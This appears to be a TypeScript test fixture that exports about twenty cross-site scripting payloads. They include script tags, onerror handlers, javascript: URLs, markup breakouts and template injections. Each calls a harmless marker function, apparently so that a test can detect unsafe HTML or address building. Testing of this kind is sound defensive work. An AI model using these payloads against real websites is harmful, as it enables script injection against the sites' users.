/**
 * Texts that run as a script, or break out of markup, wherever a page builds HTML or addresses from them. Each calls
 * `__pwned()` if it runs.
 */
export const payloads: readonly string[] = [
  '<script>__pwned()</script>',
  '<img src=x onerror=__pwned()>',
  '"><svg onload=__pwned()>',
  "'><img src=x onerror='__pwned()'>",
  '<a href="javascript:__pwned()">x</a>',
  'javascript:__pwned()',
  'JaVaScRiPt:__pwned()//http://',
  'data:text/html,<script>parent.__pwned()</script>',
  '</textarea><script>__pwned()</script>',
  '</title><script>__pwned()</script>',
  '<iframe srcdoc="<script>parent.__pwned()</script>">',
  '<style>@import "javascript:__pwned()";</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__pwned()>',
  '{{constructor.constructor("__pwned()")()}}',
  '${__pwned()}',
  '`;__pwned();//',
  '\\"-__pwned()-\\"',
  '\u2028__pwned()\u2029',
  '<b onmouseover=__pwned()>hover</b>',
  '&lt;img src=x onerror=__pwned()&gt;',
];
